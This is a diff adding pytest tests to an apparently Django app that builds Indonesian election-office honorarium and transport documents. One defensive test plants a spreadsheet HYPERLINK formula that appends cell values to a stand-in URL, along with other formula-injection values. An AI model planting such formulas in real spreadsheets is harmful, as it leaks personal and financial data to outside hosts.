@@ -7,6 +7,7 @@ from decimal import Decimal
 
 import pdfplumber
 import pytest
+from django.core.exceptions import ValidationError
 from openpyxl import load_workbook
 
 from bodies.models import SecretariatOfficial
@@ -296,3 +297,136 @@ def test_amounts_in_words_say_seribu_for_a_lone_thousand():
     assert number_in_words(1_001_000) == "satu juta seribu"
     assert number_in_words(101_000) == "seratus satu ribu"
     assert rupiah_in_words(1_000) == "Seribu rupiah"
+
+
+# --- Formula injection (issue #17, finding 4)
+
+INJECTED = '=HYPERLINK("http://x/?"&B8&C8,"klik")'
+
+
+def formula_cells(document) -> list[str]:
+    sheet = load_workbook(io.BytesIO(document.pdf)).active
+    return [cell.value for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
+
+
+def test_a_jabatan_typed_as_a_formula_stays_text_in_the_transport_xlsx(world):
+    register(world, unit=world.pps[0], status="verified", position=INJECTED,
+             full_name="=1+1")  # fmt: skip
+
+    document = build_document("uang-transport", event=world.event, day=1, format="xlsx")
+
+    sheet = load_workbook(io.BytesIO(document.pdf)).active
+    cells = {cell.value: cell for row in sheet.iter_rows() for cell in row if cell.value}
+    assert cells[INJECTED].data_type == "s" and cells["=1+1"].data_type == "s"
+    assert all(value.startswith("=SUM(") for value in formula_cells(document))
+
+
+def test_speaker_fields_and_the_title_typed_as_formulas_stay_text_in_the_honorarium_xlsx(
+    world, speakers
+):
+    desi, _budi = speakers
+    desi.name, desi.background = INJECTED, "=2+2"
+    desi.bank_name, desi.account_number, desi.account_holder = "@x", "-1", "+1"
+    desi.save()
+    world.event.title = "=3+3"
+    world.event.save(update_fields=["title"])
+
+    for slug in ("honorarium", "honorarium-non-tunai"):
+        document = build_document(slug, event=world.event, format="xlsx")
+        formulas = formula_cells(document)
+        assert not any("HYPERLINK" in value or value in ("=2+2", "=3+3") for value in formulas)
+        # What is a formula is the arithmetic: ROUND, the net, the sums.
+        assert all(value.startswith(("=ROUND(", "=SUM(", "=G")) for value in formulas)
+
+
+# --- Honorarium per speaker: level, tax profile, internal speakers
+
+
+def test_each_speaker_gets_the_rate_of_their_level_and_the_tax_of_their_profile(world, speakers):
+    desi, budi = speakers
+    desi.level, desi.tax_status, desi.grade = Speaker.Level.ESELON_II, "asn", "IV"
+    desi.save()
+    budi.has_npwp = False
+    budi.save()
+
+    rows = honorarium_data(event=world.event, paper="A4")["rows"]
+
+    # Desi: 3 h x Rp1.000.000 (PMK 49/2023, Eselon II) = 3.000.000; ASN gol. IV, 15 % final
+    # (PP 80/2010) = 450.000. Budi: 1 h 50 min x 900.000 = 1.650.000; non-ASN without an
+    # NPWP: 50 % x 5 % x 120 % = 49.500.
+    assert [(r["rate"], r["gross"], r["tax"]) for r in rows] == [
+        (Decimal(1_000_000), Decimal(3_000_000), Decimal(450_000)),
+        (Decimal(900_000), Decimal(1_650_000), Decimal(49_500)),
+    ]
+    assert rows[0]["tax_rule_text"] == "ASN gol. IV: final 15%"
+    assert "tanpa NPWP" in rows[1]["tax_rule_text"]
+
+
+def test_an_internal_speaker_is_flagged_and_unpaid_until_a_reason_is_recorded(world, speakers):
+    desi, _budi = speakers
+    desi.is_internal = True
+    desi.save()
+
+    row = honorarium_data(event=world.event, paper="A4")["rows"][0]
+    assert row["unpaid"] and row["gross"] == row["tax"] == row["net"] == Decimal(0)
+    assert "Internal (penyelenggara): tidak dibayar" in row["note"]
+    text = pdf_text(build_document("honorarium", event=world.event).pdf)
+    assert "tidak dibayar" in text
+
+    desi.internal_pay_reason = "Narasumber mewakili KPU Provinsi atas penugasan"
+    desi.save()
+    row = honorarium_data(event=world.event, paper="A4")["rows"][0]
+    assert not row["unpaid"] and row["gross"] == Decimal(2_700_000)
+    assert "Internal, dibayar: Narasumber mewakili KPU Provinsi" in row["note"]
+
+
+def test_a_rate_override_is_used_and_its_reason_printed(world, speakers):
+    desi, _budi = speakers
+    desi.rate_override, desi.rate_override_reason = Decimal(500_000), "Permintaan narasumber"
+    desi.save()
+    row = honorarium_data(event=world.event, paper="A4")["rows"][0]
+    assert row["gross"] == Decimal(1_500_000) and "Tarif khusus: Permintaan narasumber" in row["note"]
+
+
+def test_a_moderator_is_paid_per_session(world, speakers):
+    desi, _budi = speakers
+    desi.level = Speaker.Level.MODERATOR
+    desi.save()
+    # One session: 1 x Rp700.000 (PMK 49/2023, moderator per kali)
+    row = honorarium_data(event=world.event, paper="A4")["rows"][0]
+    assert (row["hours"], row["rate"], row["gross"]) == (Decimal(1), Decimal(700_000), Decimal(700_000))
+
+
+def test_an_office_figure_for_a_level_takes_precedence_over_the_national_one(world, speakers):
+    CostStandard.objects.create(office=world.kpu, year=2024, item="hon_eselon_3",
+                                amount=Decimal(800_000), source="uji")  # fmt: skip
+    rows = honorarium_data(event=world.event, paper="A4")["rows"]
+    assert [r["rate"] for r in rows] == [Decimal(800_000)] * 2
+
+
+def test_the_non_cash_honorarium_list_prints_the_whole_account(world, speakers):
+    desi, _budi = speakers
+    desi.bank_name, desi.account_number, desi.account_holder = "BRI", "012301000150502", "Desi A."
+    desi.save()
+    text = pdf_text(build_document("honorarium-non-tunai", event=world.event).pdf)
+    assert "DAFTAR NOMINATIF PEMBAYARAN NON TUNAI HONORARIUM NARASUMBER" in text
+    assert "BRI 012301000150502 Desi A." in text and "Tanda Tangan" not in text
+    cash = pdf_text(build_document("honorarium", event=world.event).pdf)
+    assert "012301000150502" not in cash
+
+
+def test_a_civil_servant_speaker_needs_a_golongan_and_an_override_a_reason(world):
+    speaker = Speaker(event=world.event, name="X", tax_status="asn", rate_override=Decimal(1))
+    with pytest.raises(ValidationError) as refused:
+        speaker.full_clean()
+    assert set(refused.value.message_dict) == {"grade", "rate_override_reason"}
+
+
+def test_an_allowance_line_typed_by_hand_needs_its_reason(world):
+    line = AllowanceLine(event=world.event, kind=Kind.POCKET_MONEY, amount=Decimal(10))
+    with pytest.raises(ValidationError) as refused:
+        line.full_clean()
+    assert "override_reason" in refused.value.message_dict
+    line = AllowanceLine(event=world.event, kind=Kind.POCKET_MONEY)
+    with pytest.raises(ValidationError):
+        line.full_clean()
